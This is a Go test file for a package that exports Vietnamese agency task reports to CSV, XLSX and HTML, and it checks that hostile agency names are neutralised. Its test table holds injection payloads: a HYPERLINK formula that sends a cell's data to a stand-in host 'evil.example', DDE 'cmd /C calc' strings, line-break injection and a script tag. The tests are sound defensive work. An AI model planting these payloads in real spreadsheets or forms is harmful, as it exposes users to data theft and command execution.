package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileNames are agency names an admin could type into the directory,
// by mistake or not, each with what a spreadsheet cell must hold instead.
var hostileNames = []struct {
	name, cell string
}{
	{"Sở Nội vụ", "Sở Nội vụ"},
	{`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`, `'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"  =1+1", "'  =1+1"},
	{"\t=1+1", "' =1+1"},
	{"Sở A\r\nSở B,\"trích dẫn\";x", "Sở A  Sở B,\"trích dẫn\";x"},
	{"\r=1+1", "' =1+1"},
	{"<script>alert('x')</script> & Sở \"Tài chính\"", "<script>alert('x')</script> & Sở \"Tài chính\""},
	{"Sở\u2028Xây dựng\x00\x1b[31m", "Sở Xây dựng  [31m"},
	{"Sở \xff hỏng", "Sở \uFFFD hỏng"},
}

func TestSpreadsheetText(t *testing.T) {
	for _, tt := range hostileNames {
		t.Run(tt.name, func(t *testing.T) {
			if got := spreadsheetText(tt.name); got != tt.cell {
				t.Errorf("spreadsheetText(%q) = %q, want %q", tt.name, got, tt.cell)
			}
		})
	}
}

// hostileRows gives one row per hostile name, with counts that tell the
// rows apart.
func hostileRows() []Row {
	var rows []Row
	for i, h := range hostileNames {
		rows = append(rows, Row{Key: "a" + string(rune('a'+i)), Name: h.name, Due: 3 + i%2, OnTime: 2, Late: 1, DaysLate: i, Overdue: i % 2, NotYetDue: 1})
	}
	rows = append(rows, Row{Key: "?so-cu", Name: unassignedLabel + "Sở Cũ", Unassigned: true, NotYetDue: 2})
	return rows
}

func TestWriteCSV(t *testing.T) {
	rows := hostileRows()
	var b bytes.Buffer
	if err := WriteCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	t.Run("starts with a UTF-8 byte order mark", func(t *testing.T) {
		if !strings.HasPrefix(out, "\xEF\xBB\xBF") {
			t.Errorf("no BOM: %q", out[:min(10, len(out))])
		}
	})
	t.Run("one CRLF line per row, no line break injected", func(t *testing.T) {
		if n := strings.Count(out, "\r\n"); n != len(rows)+1 {
			t.Errorf("%d CRLF, want %d", n, len(rows)+1)
		}
		if n := strings.Count(out, "\n"); n != len(rows)+1 {
			t.Errorf("%d LF, want %d", n, len(rows)+1)
		}
		if n := strings.Count(out, "\r"); n != len(rows)+1 {
			t.Errorf("%d CR, want %d", n, len(rows)+1)
		}
	})
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v", err)
	}
	t.Run("header", func(t *testing.T) {
		if strings.Join(recs[0], "|") != strings.Join(Headers[:], "|") {
			t.Errorf("header = %q", recs[0])
		}
	})
	if len(recs) != len(rows)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
	}
	for i, h := range hostileNames {
		t.Run("row "+h.name, func(t *testing.T) {
			got := recs[i+1]
			if got[nameCol] != h.cell {
				t.Errorf("name cell = %q, want %q", got[nameCol], h.cell)
			}
			for j, c := range got {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cell %d = %q starts with a formula character", j, c)
				}
			}
		})
	}
	t.Run("counts and rate", func(t *testing.T) {
		want := "4|2|1|1|1|0|50.0%|1|0"
		if got := strings.Join(recs[2][1:], "|"); got != want {
			t.Errorf("row 2 = %s, want %s", got, want)
		}
		want = "3|2|1|2|0|0|66.7%|1|0"
		if got := strings.Join(recs[3][1:], "|"); got != want {
			t.Errorf("row 3 = %s, want %s", got, want)
		}
		want = "0|0|0|0|0|0||2|0"
		if got := strings.Join(recs[len(recs)-1][1:], "|"); got != want {
			t.Errorf("unassigned row = %s, want %s", got, want)
		}
	})
}

func TestWriteXLSX(t *testing.T) {
	rows := hostileRows()
	var b bytes.Buffer
	if err := WriteXLSX(&b, rows, 2026); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatalf("not a valid workbook: %v", err)
	}
	defer f.Close()
	sheet := "Năm 2026"
	t.Run("one sheet named for the year", func(t *testing.T) {
		if got := f.GetSheetList(); len(got) != 1 || got[0] != sheet {
			t.Errorf("sheets = %q", got)
		}
	})
	got, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	t.Run("bold Vietnamese header", func(t *testing.T) {
		if strings.Join(got[0], "|") != strings.Join(Headers[:], "|") {
			t.Errorf("header = %q", got[0])
		}
		for i := range Headers {
			cell, _ := excelize.CoordinatesToCellName(i+1, 1)
			id, err := f.GetCellStyle(sheet, cell)
			if err != nil {
				t.Fatal(err)
			}
			st, err := f.GetStyle(id)
			if err != nil {
				t.Fatal(err)
			}
			if st.Font == nil || !st.Font.Bold {
				t.Errorf("%s is not bold", cell)
			}
		}
	})
	if len(got) != len(rows)+1 {
		t.Fatalf("%d rows, want %d", len(got), len(rows)+1)
	}
	for i, h := range hostileNames {
		t.Run("name "+h.name, func(t *testing.T) {
			cell, _ := excelize.CoordinatesToCellName(1, i+2)
			if got[i+1][0] != h.cell {
				t.Errorf("%s = %q, want %q", cell, got[i+1][0], h.cell)
			}
			typ, err := f.GetCellType(sheet, cell)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelize.CellTypeSharedString {
				t.Errorf("%s has type %v, want a shared string", cell, typ)
			}
			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
				t.Errorf("%s has formula %q (%v)", cell, formula, err)
			}
		})
	}
	t.Run("counts are numbers, the rate a percentage", func(t *testing.T) {
		tests := []struct{ cell, want string }{
			{"B3", "4"}, {"C3", "2"}, {"D3", "1"}, {"E3", "1"}, {"F3", "1"}, {"G3", "0"}, {"I3", "1"},
			{"H3", "0.5"}, {"B4", "3"}, {"E4", "2"}, {"F4", "0"}, {"H4", "0.666666666666666"}, // Excel keeps 15 significant digits
		}
		for _, tt := range tests {
			v, err := f.GetCellValue(sheet, tt.cell, excelize.Options{RawCellValue: true})
			if err != nil || v != tt.want {
				t.Errorf("%s = %q (%v), want %q", tt.cell, v, err, tt.want)
			}
			typ, _ := f.GetCellType(sheet, tt.cell)
			if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("%s has type %v, want a number", tt.cell, typ)
			}
		}
		if v, _ := f.GetCellValue(sheet, "H4"); v != "66.67%" {
			t.Errorf("H4 shows %q, want 66.67%%", v)
		}
		last := len(rows) + 1
		cell, _ := excelize.CoordinatesToCellName(8, last)
		if v, _ := f.GetCellValue(sheet, cell); v != "" {
			t.Errorf("rate with nothing owed = %q, want empty", v)
		}
	})
}

func TestWriteXLSXEmpty(t *testing.T) {
	var b bytes.Buffer
	if err := WriteXLSX(&b, nil, 2027); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows("Năm 2027")
	if err != nil || len(got) != 1 {
		t.Errorf("rows = %q (%v), want the header only", got, err)
	}
}

func TestWriteHTML(t *testing.T) {
	rows := hostileRows()
	tests := []struct {
		name      string
		write     func(*bytes.Buffer) error
		wantPage  bool
		wantEmpty bool
	}{
		{"page", func(b *bytes.Buffer) error { return WriteHTML(b, rows, 2026) }, true, false},
		{"table fragment", func(b *bytes.Buffer) error { return WriteHTMLTable(b, rows, 2026) }, false, false},
		{"empty page", func(b *bytes.Buffer) error { return WriteHTML(b, nil, 2026) }, true, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.write(&b); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			if got := strings.HasPrefix(out, "<!DOCTYPE html>"); got != tt.wantPage {
				t.Errorf("full page = %t, want %t", got, tt.wantPage)
			}
			if !tt.wantPage && (!strings.HasPrefix(out, "<table") || !strings.HasSuffix(out, "</table>")) {
				t.Errorf("fragment is not one table: %q…", out[:min(60, len(out))])
			}
			if !strings.Contains(out, "Tình hình thực hiện nhiệm vụ năm 2026") {
				t.Error("no caption with the year")
			}
			for _, h := range Headers {
				if !strings.Contains(out, "<th scope=\"col\">"+h+"</th>") {
					t.Errorf("no header %q", h)
				}
			}
			if tt.wantEmpty {
				if !strings.Contains(out, "Không có nhiệm vụ nào trong năm 2026.") {
					t.Error("no empty-table message")
				}
				return
			}
			if strings.Contains(out, "<script>") || strings.Contains(out, "alert('x')") {
				t.Error("a hostile name is not escaped")
			}
			if !strings.Contains(out, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; Sở &#34;Tài chính&#34;") {
				t.Error("the hostile name is not shown escaped")
			}
			if got := strings.Count(out, "<tr"); got != len(rows)+1 {
				t.Errorf("%d <tr>, want %d", got, len(rows)+1)
			}
			if !strings.Contains(out, "<td>66,7%</td>") || !strings.Contains(out, "<td>—</td>") {
				t.Error("rates not shown the Vietnamese way")
			}
			if !strings.Contains(out, `<tr class="unassigned">`) || !strings.Contains(out, `<tr class="overdue">`) {
				t.Error("row classes missing")
			}
		})
	}
}
